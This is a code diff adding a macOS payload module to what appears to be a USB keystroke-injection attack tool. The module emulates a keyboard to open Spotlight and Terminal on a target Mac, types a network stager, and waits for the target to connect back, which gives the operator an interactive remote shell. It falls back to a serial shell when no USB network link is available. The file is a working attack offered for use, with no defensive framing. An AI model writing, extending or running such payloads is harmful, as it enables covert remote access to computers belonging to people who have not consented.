@@ -0,0 +1,59 @@
+import time
+
+from pirate.lib.keyboard import Keyboard
+from pirate.lib.logger import Logger
+from pirate.lib.network_session import NetworkSession
+from pirate.lib.readiness import Readiness
+from pirate.payloads.macos import serial_shell
+
+
+def _on_ready() -> None:
+    Logger.success("Connected!")
+    print("")
+
+
+def execute(connect_timeout: float = 30.0) -> None:
+    session = NetworkSession(on_ready=_on_ready)
+
+    # Use the fastest transport available; fall back to the serial shell
+    if not session.available():
+        Logger.warning("USB network link is not available. Falling back to the serial shell...")
+        serial_shell.execute()
+        return
+
+    kb = Keyboard()
+
+    # Listen before typing so the target's connection is never refused
+    session.listen()
+
+    # Wait for the host to enumerate the gadget before typing
+    if not Readiness.udc_configured(timeout=5.0, fallback=0.5):
+        Logger.warning("Host has not configured the USB gadget yet. Typing anyway...")
+
+    # Launch spotlight
+    kb.send("{KEY:GUI+SPACE}")
+    time.sleep(0.35)
+
+    # Launch terminal
+    kb.send("terminal{KEY:ENTER}")
+    time.sleep(1.0)
+
+    # Open a new terminal window
+    kb.send("{KEY:GUI+n}")
+    time.sleep(0.5)
+
+    # Send the payload
+    Logger.info("Injecting network stager on target...")
+    kb.send(f"{session.stager('macos')};exit{{KEY:ENTER}}")
+    kb.close()
+
+    Logger.info("Waiting for the target to connect...")
+    try:
+        if not session.stdio(timeout=connect_timeout):
+            Logger.error(f"Target did not connect within {connect_timeout}s.")
+            return
+    finally:
+        session.close()
+
+    Logger.info("Session closed.")
+    print("")